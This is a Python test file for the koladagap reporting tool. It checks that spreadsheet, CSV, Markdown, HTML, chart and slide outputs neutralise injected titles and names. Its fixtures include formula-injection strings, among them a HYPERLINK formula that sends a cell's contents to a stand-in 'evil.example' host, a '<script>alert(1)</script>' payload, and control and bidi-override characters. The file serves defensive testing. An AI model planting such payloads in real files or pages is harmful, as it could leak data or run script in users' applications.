"""Nothing injected into what koladagap writes (issue 14): formulas, HTML, control characters.

Titles, operating areas and names come from Kolada's answers and the user's files. A
title such as ``=HYPERLINK(...)`` must reach every spreadsheet as text (no formula
cell), every CSV with a leading quote, the Markdown and HTML reports escaped, and the
charts and slides without control characters or mathtext.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import matplotlib
import openpyxl
import pandas as pd
import pytest

from koladagap._cells import (
    XLSX_OPTIONS,
    clean_text,
    csv_cell,
    csv_frame,
    csv_unquote,
    no_mathtext,
    xlsx_write,
)
from koladagap.benchmarking.plan import load_plan, starter_plan
from koladagap.benchmarking.run import run_plan
from koladagap.kolada.sample import sample_manifest
from koladagap.render.report import write_report

matplotlib.use("Agg")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klicka")',
    "=1+1",
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
"""Texts a spreadsheet would run as formulas (OWASP's list of first characters)."""

CONTROL = "Skola\x00\x07\x1b[2J\u202eevil\u2066 $x^{$ och \\frac{a"
"""Control characters, a bidi override and broken mathtext."""


def _no_formula_cells(path: Path) -> list[str]:
    """Every text cell of the workbook (asserting that none is a formula)."""
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    texts.append(c.value)
    return texts


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# --- the helpers ---------------------------------------------------------------------


@pytest.mark.parametrize("s", HOSTILE)
def test_csv_cell_quotes_what_could_start_a_formula(s: str) -> None:
    out = csv_cell(s)
    assert isinstance(out, str) and out.startswith("'")
    assert "\x00" not in out


def test_csv_frame_keeps_numbers_numbers_and_reads_back() -> None:
    df = pd.DataFrame(
        {
            "title": [*HOSTILE, "Skola", None],
            "gap": [-2.5] * len(HOSTILE) + [1.0, float("nan")],
            "n": pd.array([-1] * (len(HOSTILE) + 2), dtype="Int64"),
        }
    )
    out = csv_frame(df)
    assert out["gap"].tolist()[:2] == [-2.5, -2.5]  # a negative gap is a number
    assert out["n"].dtype == "Int64"
    text = out.to_csv(index=False)
    back = pd.read_csv(io.StringIO(text), dtype={"title": str})
    assert back["gap"].iloc[0] == -2.5 and back["n"].iloc[0] == -1
    assert all(t.startswith("'") for t in back["title"].iloc[: len(HOSTILE)])
    assert back["title"].iloc[len(HOSTILE)] == "Skola"
    assert csv_unquote(back)["title"].iloc[1] == "=1+1"


def test_csv_frame_headers_and_control_characters() -> None:
    df = pd.DataFrame({"=cmd": [CONTROL]})
    out = csv_frame(df)
    assert list(out.columns) == ["'=cmd"]
    cell = str(out.iloc[0, 0])
    assert not any(ord(ch) < 32 for ch in cell) and "\u202e" not in cell and "\u2066" not in cell


def test_clean_text_and_mathtext() -> None:
    assert clean_text("a\r\nb\rc\td") == "a\nb\nc d"
    assert clean_text("a\u0085b\u009bc") == "abc"  # C1 controls
    assert no_mathtext(no_mathtext("$a$")) == "\\$a\\$"  # escaping twice is escaping once


def test_xlsx_write_text_is_never_a_formula(tmp_path: Path) -> None:
    xlsxwriter = pytest.importorskip("xlsxwriter")
    path = tmp_path / "t.xlsx"
    wb = xlsxwriter.Workbook(str(path), XLSX_OPTIONS)
    ws = wb.add_worksheet()
    for i, s in enumerate([*HOSTILE, CONTROL, "https://evil.example"]):
        xlsx_write(ws, i, 0, s)
        xlsx_write(ws, i, 1, -1.5)
    ws.write(20, 0, "=1+1")  # even plain write(): the options keep text as text
    wb.close()
    texts = _no_formula_cells(path)
    assert "=1+1" in texts and HOSTILE[0] in texts
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert sheet["B1"].value == -1.5 and sheet["A9"].hyperlink is None


# --- the deviation report ------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_result(tmp_path_factory: pytest.TempPathFactory) -> object:
    """Vellinge on the sample, with hostile KPI titles, areas and organisation name."""
    d = tmp_path_factory.mktemp("hostile")
    p = d / "plan.toml"
    kpis = sample_manifest()["values"]["kpis"]
    p.write_text(starter_plan("1233", "x", kpis), encoding="utf-8")
    res = run_plan(load_plan(p), source="sample", meetings_dir=None)
    table = res.table.copy()
    titles = [
        HOSTILE[i % len(HOSTILE)] + " <script>alert(1)</script> *x* | y" for i in range(len(table))
    ]
    table["kpi_title"] = titles
    areas = {k: "=AREA()" if i % 2 else "@area" for i, k in enumerate(res.areas)}
    return dataclasses.replace(res, table=table, areas=areas, organisation_name="=Vellinge\x07")


def test_report_xlsx_has_no_formula(hostile_result: object, tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    (path,) = write_report(hostile_result, tmp_path / "r.xlsx")  # type: ignore[arg-type]
    texts = _no_formula_cells(path)
    assert any(t.startswith("=HYPERLINK") for t in texts)
    assert any(t.startswith("=Vellinge") for t in texts)
    assert not any("\x07" in t for t in texts)
    ws = openpyxl.load_workbook(path).worksheets[0]
    numbers = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, float)]
    assert any(v < 0 for v in numbers)  # negative gaps stay number cells


def test_report_csv_cells_are_quoted(hostile_result: object, tmp_path: Path) -> None:
    files = write_report(hostile_result, tmp_path / "r.csv", split_by_area=True)  # type: ignore[arg-type]
    assert len(files) > 4
    for f in files:
        for cell in _csv_cells(f.read_text(encoding="utf-8")):
            if not _is_number(cell):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (f.name, cell)
    overview = pd.read_csv(files[0])
    assert any(str(t).startswith("'=HYPERLINK") for t in overview.iloc[:, 1])
    gaps = overview.select_dtypes("number")
    assert (gaps < 0).any().any()  # numbers, not quoted text


def test_report_md_escapes_html_and_markdown(hostile_result: object, tmp_path: Path) -> None:
    (path,) = write_report(hostile_result, tmp_path / "r.md")  # type: ignore[arg-type]
    text = path.read_text(encoding="utf-8")
    assert "<script>" not in text and "\\<script\\>" in text
    assert "\\*x\\*" in text and "\x07" not in text
    lines = text.splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("| "))
    rows = lines[first : lines.index("", first)]
    widths = {len(re.split(r"(?<!\\)\|", line)) for line in rows}
    assert len(widths) == 1 and len(rows) > 3  # a "|" in a title does not add a column


def test_report_html_escapes(hostile_result: object, tmp_path: Path) -> None:
    (path,) = write_report(hostile_result, tmp_path / "r.html")  # type: ignore[arg-type]
    text = path.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


# --- the CLI's tables ----------------------------------------------------------------


def test_piped_csv_and_terminal_are_harmless() -> None:
    from koladagap.cli.common import write_table

    df = pd.DataFrame({"title": ["=1+1", CONTROL], "gap": [-1.0, 2.0]})
    buf = io.StringIO()
    write_table(df, None, "sv", buf, source="Källa: Kolada")
    cells = _csv_cells(buf.getvalue())
    assert "'=1+1" in cells and "-1.0" in cells
    assert not any("\x1b" in c or "\u202e" in c for c in cells)

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    tty = Tty()
    write_table(df, None, "sv", tty, source="Källa: Kolada")
    assert "\x1b" not in tty.getvalue() and "=1+1" in tty.getvalue()


def test_saved_csv_is_quoted_parquet_is_data(tmp_path: Path) -> None:
    from koladagap.cli.common import save_table

    df = pd.DataFrame({"title": ["@x", "ok"], "value": [-3.0, 1.0]})
    save_table(df, tmp_path / "t.csv", "Källa: Kolada")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["title"].tolist() == ["'@x", "ok"] and back["value"].tolist() == [-3.0, 1.0]
    save_table(df, tmp_path / "t.parquet", "Källa: Kolada")
    assert pd.read_parquet(tmp_path / "t.parquet")["title"].tolist() == ["@x", "ok"]


# --- the checklist ---------------------------------------------------------------------


def test_checklist_tables_and_template_are_harmless(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    from koladagap.checklist import (
        checklist_results,
        read_scores,
        template_frame,
        write_checklist_tables,
        write_template,
    )

    sheet = template_frame("2019")
    score = sheet.columns[sheet.columns.str.startswith("Poäng")][0]
    sheet[score] = 2
    sheet["Kommentar"] = ['=HYPERLINK("http://x")', "-1", "@a", "+b", CONTROL] * (len(sheet) // 5)
    src = tmp_path / "poang.csv"
    sheet.to_csv(src, index=False)
    result = checklist_results(read_scores(src, lang="sv"))
    files = write_checklist_tables(result, tmp_path / "ut")
    for f in files:
        if f.suffix == ".csv":
            for cell in _csv_cells(f.read_text(encoding="utf-8")):
                assert not cell.startswith(("=", "+", "-", "@")), (f.name, cell)
        else:
            texts = _no_formula_cells(f)
            assert any(t.startswith("=HYPERLINK") for t in texts)
            assert not any("\x1b" in t for t in texts)
    # the template written as CSV reads back as the same sheet (the quote is dropped)
    t = write_template("2019", tmp_path / "mall.csv")
    assert read_scores(t, lang="sv").checklist.version == "2019"


# --- charts and the pack ---------------------------------------------------------------


def test_charts_draw_hostile_titles() -> None:
    import matplotlib.pyplot as plt

    from koladagap.benchmarking.data import Kolada
    from koladagap.render import charts

    kg = Kolada(mode="sample")
    g = kg.gaps("N15428", None, years="2014-2022")
    title = CONTROL + ", andel (%)"
    for draw in (
        lambda ax: charts.plot_kpi_trend(
            g, "N15428", "1233", kpi_title=title, ax=ax, municipality_name="$V$\x07"
        ),
        lambda ax: charts.plot_gap_trend(g, "N15428", "1233", kpi_title=title, ax=ax),
        lambda ax: charts.plot_gap_among_municipalities(
            g[g["period"] == 2022], "1233", kpi_title=title, ax=ax
        ),
    ):
        fig, ax = plt.subplots(figsize=charts.SLIDE_SIZE)
        draw(ax)
        fig.canvas.draw()  # mathtext would fail here
        texts = [t.get_text() for t in fig.findobj(matplotlib.text.Text)]
        assert not any("\x07" in t or "\u202e" in t for t in texts)
        assert any("x^{" in t for t in texts)
        plt.close(fig)


def test_pack_with_hostile_titles(tmp_path: Path) -> None:
    pptx = pytest.importorskip("pptx")
    from koladagap.render import pack

    inp = pack.baseline_pack_from_sample("0180", 2018, kpis=["N15428", "N01951"])
    meta = inp.kpi_meta.copy()
    meta["title"] = [HOSTILE[0] + CONTROL + ", andel (%)", "+1 $x^{$ \x00, antal"]
    inp = dataclasses.replace(inp, kpi_meta=meta, organisation_name="@Stock\x0bholm $a$\u202e")
    files = pack.write_baseline_pack(inp, tmp_path, formats="png,pdf,pptx")
    deck = next(f for f in files if f.suffix == ".pptx")
    texts = [
        sh.text_frame.text
        for s in pptx.Presentation(str(deck)).slides
        for sh in s.shapes
        if sh.has_text_frame
    ]
    assert any("$a$" in t for t in texts)
    assert not any("\x0b" in t or "\u202e" in t or "\x00" in t for t in texts)
    assert next(f for f in files if f.suffix == ".pdf").stat().st_size > 0


# --- the network's workbook -------------------------------------------------------------


def test_network_workbook_has_no_formula(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    from koladagap.benchmarking.data import Kolada
    from koladagap.benchmarking.network import load_network, run_network
    from koladagap.benchmarking.network_init import network_starter
    from koladagap.render.network.xlsx import write_network_xlsx

    sample = Kolada(mode="sample")
    path = tmp_path / "natverk.toml"
    path.write_text(network_starter(sample, ["1233", "1280"], None, file=path.name), "utf-8")
    res = run_network(load_network(path), source=sample)
    kpis = res.kpis.assign(title=[HOSTILE[i % len(HOSTILE)] for i in range(len(res.kpis))])
    table = res.table.assign(kpi_title="=1+1", area="@area")
    members = res.members.assign(name=['=HYPERLINK("http://x")', "-Lomma\x07"])
    hostile = dataclasses.replace(res, name="=Nätverk", kpis=kpis, table=table, members=members)
    (out,) = write_network_xlsx(hostile, tmp_path / "natverk.xlsx")
    texts = _no_formula_cells(out)
    assert "=Nätverk" in texts and any(t.startswith("=HYPERLINK") for t in texts)
    assert not any("\x07" in t for t in texts)
